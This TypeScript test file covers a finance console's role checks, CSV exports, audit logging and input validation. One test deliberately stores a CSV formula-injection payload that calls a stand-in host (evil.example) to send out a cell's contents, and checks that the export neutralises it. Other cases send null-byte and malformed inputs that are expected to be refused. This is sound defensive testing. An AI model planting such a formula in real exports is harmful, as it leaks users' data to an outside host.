/** Money through the console's port: the lines behind the books, fees and tax, and exports, each for its roles. */
import { beforeAll, describe, expect, test } from "vitest";
import { type ConsoleOperator, consoleCall, newConsoleOperator } from "../system/console-operators.ts";
import { openOperators } from "../system/operators.ts";
import { consoleUrl, home } from "./page.ts";

const period = "from=2026-01-01&to=2026-12-31";
const paths = ["/books/INR/lines?part=foreign", `/fee-totals?${period}`, `/exports/withdrawals?${period}`];

let treasury: ConsoleOperator;
let others: ConsoleOperator;
beforeAll(async () => {
  treasury = await newConsoleOperator(home, consoleUrl, ["treasury"]);
  others = await newConsoleOperator(home, consoleUrl, ["support", "admin"]);
});

test.each(paths)("%s needs an operator of treasury or compliance", async (path) => {
  expect(await consoleCall(consoleUrl, "GET", path)).toMatchObject({ status: 401, code: "OPERATOR_SESSION_MISSING" });
  expect(await others.call("GET", path)).toMatchObject({ status: 403, code: "OPERATOR_ROLE_MISSING" });
  expect(await treasury.call("GET", path)).toMatchObject({ status: 200 });
});

test("every part of every comparison has its lines", async () => {
  const { body } = await treasury.call("GET", "/ledger");
  expect(body.reports.length).toBeGreaterThan(0);
  for (const { ticker, parts } of body.reports) {
    for (const { name } of parts) {
      const path = `/books/${ticker}/lines?part=${encodeURIComponent(name)}`;
      expect([path, (await treasury.call("GET", path)).status]).toEqual([path, 200]);
    }
  }
});

describe("exports", () => {
  test.each(["books", "fees", "withdrawals", "deposits", "audit-log"])(
    "%s are sent as a CSV file, and the log has what was exported and by whom",
    async (what) => {
      const { status, headers, body } = await treasury.call("GET", `/exports/${what}?${period}`);
      expect(status).toBe(200);
      expect(headers.get("content-type")).toBe("text/csv; charset=utf-8");
      expect(headers.get("content-disposition")).toBe(
        `attachment; filename="feo-${what}-2026-01-01-to-2026-12-31.csv"`,
      );
      expect(headers.get("cache-control")).toBe("no-store");
      expect(String(body).split("\r\n")[0]).toMatch(/^[A-Z][\w ()]*,/);
      const log = await (await openOperators(home))(["audit", what], { as: "meera" });
      expect(log).toContain(treasury.name);
      expect(log).toMatch(/export .*from 2026-01-01, to 2026-12-31/);
    },
  );

  test("an operator's note that is a formula is text in the export", async () => {
    const note = `=HYPERLINK("https://evil.example?q="&A1)`;
    await treasury.act("note", "a subject", { text: note });
    await treasury.act("note", "=1+1", { text: "Nothing" });
    const { body } = await treasury.call("GET", `/exports/audit-log?${period}`);
    expect(String(body)).toContain(`"'=1+1"`);
    for (const cell of String(body).split(/[,\r\n]+/)) expect(cell).not.toMatch(/^"?[=@]/);
  });
});

test.each([
  ["/exports/accounts?from=2026-01-01&to=2026-01-02", 400],
  ["/exports/fees", 400],
  ["/exports/fees?from=2026-13-01&to=2026-12-31", 400],
  ["/exports/fees?from=2026-02-01&to=2026-01-01", 409],
  ["/exports/books?from=2020-01-01&to=2026-01-01", 409],
  ["/fee-totals?from=2026-01-01&to=2026-01-02&by=year", 400],
  ["/fee-totals?from=2020-01-01&to=2026-01-02", 409],
  ["/books/INR/lines?part=nothing", 409],
  ["/books/INR/lines?part=foreign&after=x", 400],
  ["/books/INR/lines?part=foreign&after=2026-99-99T00:00:00Z%20x", 400],
  ["/books/INR/lines?part=%00", 400],
  ["/books/ETH/lines?part=ETH%00%20in%20transit", 400],
  ["/books/inr/lines?part=foreign", 400],
])("%s is refused with %i", async (path, status) => {
  expect((await treasury.call("GET", path)).status).toBe(status);
});

test.each([
  "/books/INR/lines?part=foreign&after=2026-02-31T00:00:00Z%20x",
  "/books/ETH/lines?part=ETH%20in%20transit&after=2026-01-01T00:00:00Z%20x",
])("a cursor that names no line continues from its moment: %s", async (path) => {
  expect((await treasury.call("GET", path)).status).toBe(200);
});
